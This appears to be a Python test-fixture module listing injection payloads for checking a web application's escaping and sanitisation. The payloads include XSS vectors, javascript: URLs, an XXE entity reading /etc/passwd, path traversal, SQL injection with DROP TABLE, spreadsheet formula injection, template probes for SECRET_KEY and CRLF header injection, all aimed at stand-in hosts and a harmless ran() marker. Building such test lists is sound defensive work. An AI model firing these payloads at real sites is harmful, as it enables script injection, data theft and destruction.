"""Words that try to be more than words: markup, scripts, templates, tables, feeds, broken text.

One that comes to run calls ``ran()``; one that comes to be markup without running is an element
with the attribute ``planted``, which no page of ours has.
"""

RUNNING = (
    "<script>ran()</script>",
    '"><script>ran()</script>',
    "'><script>ran()</script>",
    "<ScRiPt >ran()</sCrIpT\t>",
    "<img src=x onerror=ran()>",
    "<img/src=x/onerror=ran()//>",
    '"><img src=x onerror=ran()>',
    "<svg onload=ran()>",
    "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x dur=1s>",
    "<details open ontoggle=ran()>planted</details>",
    "<input autofocus onfocus=ran()>",
    "<video><source onerror=ran()></video>",
    "<audio src=x onerror=ran()>",
    "<iframe src=javascript:parent.ran()></iframe>",
    '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=ran()>x</b>",
    "</textarea><script>ran()</script>",
    "</title><script>ran()</script>",
    "</script><script>ran()</script>",
    "</style><script>ran()</script>",
    "--><script>ran()</script>",
    "</option></select><img src=x onerror=ran()>",
    "<noscript><p title='</noscript><img src=x onerror=ran()>'></noscript>"
    "<img src=x onerror=ran()>",
    "<svg></p><style><a id='</style><img src=x onerror=ran()>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=ran()>'>"
    "</style><img src=x onerror=ran()>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>"
    "</style></mglyph></form></math><img src=x onerror=ran()>",
    "<template><script>1</script></template><img src=x onerror=ran()>",
)
"""Each runs by itself where it stands in a page as markup and no policy forbids it."""

ATTRIBUTES = (
    '" onmouseover="ran()" planted="',
    "' onmouseover='ran()' planted='",
    "x onmouseover=ran() planted",
    '" autofocus onfocus="ran()" planted="',
    '" style="background:url(//planted.example/x)" planted="',
    '" hx-get="/jobs/" hx-trigger="load" planted="',
    "`onmouseover=ran()` planted=`",
)

ADDRESSES = (
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "java\nscript:ran()",
    "&#106;avascript:ran()",
    "\x01javascript:ran()",
    " javascript:ran()",
    "javascript://planted.example/%0aran()",
    "vbscript:ran()",
    "data:text/html,<script>parent.ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=",
    "//planted.example/",
    "\\\\planted.example\\",
)

ELEMENTS = (
    '<a href="javascript:ran()" planted>x</a>',
    '<form action="javascript:ran()" planted><button formaction="javascript:ran()">x</form>',
    '<meta http-equiv="refresh" content="0;url=https://planted.example/" planted>',
    '<base href="https://planted.example/" planted>',
    '<link rel="stylesheet" href="https://planted.example/x.css" planted>',
    '<link rel="manifest" href="https://planted.example/x" planted>',
    "<style>@import url(https://planted.example/x.css);</style>",
    '<object data="https://planted.example/x" planted></object>',
    '<embed src="https://planted.example/x" planted>',
    '<math><a xlink:href="javascript:ran()" planted>x</a></math>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=ran()>#x" planted/></svg>',
    '<b hx-get="https://planted.example/" hx-trigger="load" planted>x</b>',
    '<b hx-post="/jobs/collect/" hx-trigger="load" planted>x</b>',
    '<b hx-on::load="ran()" hx-vals="js:{x:ran()}" hx-trigger="load" planted>x</b>',
    '<b data-hx-get="/jobs/" data-hx-trigger="load" planted>x</b>',
    "<portal src=https://planted.example/ planted></portal>",
    "<!--",
    "<![CDATA[",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?php ran() ?>",
    "<plaintext planted>",
    "<textarea planted>",
    "<select planted>",
    "<title planted>",
    "<xmp planted>",
    "</p></div></main></body></html><b planted>",
)

PLAIN = (
    "{{7*7}}{{7*'7'}}",
    "{% load static %}{% include 'desk/base.html' %}{% debug %}",
    "{{ request.session }}{{ settings.SECRET_KEY }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%s%d%(name)s%n{0}{name}",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "＜script＞ran()＜/script＞",
    "\ufeff\u200b\u2028\u2029\x85",
    "\u202e\u2066evil\u202d txt.exe",
    "a\x00b\x08\x1b[2J",
    "\ufffe\uffff\U0010ffff",
    "e\u0301" * 3 + "\u0300" * 9,
    "]]></title><entry><title>planted</title></entry>",
    '"};ran();var x={"a":"',
    "';ran();//",
    "[x](javascript:ran())![x](https://planted.example/x)",
    "`code` **b** <b planted>x</b> | a | b |",
    '=HYPERLINK("https://planted.example/","x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\r\nX-Planted: yes\r\n\r\n<b planted>",
    "../../../../etc/passwd",
    "' OR 1=1; DROP TABLE x; --",
)

PAYLOADS = (*PLAIN, *ATTRIBUTES, *ADDRESSES, *RUNNING, *ELEMENTS)


def words(at: int = 0, most: int = 6_000) -> str:
    """As many payloads as fit into so many characters, the first of them the ``at``-th."""
    said = ""
    for one in range(len(PAYLOADS)):
        payload = PAYLOADS[(at + one) % len(PAYLOADS)]
        if len(said) + len(payload) + 1 <= most:
            said += f"{payload} "
    return said[:-1]
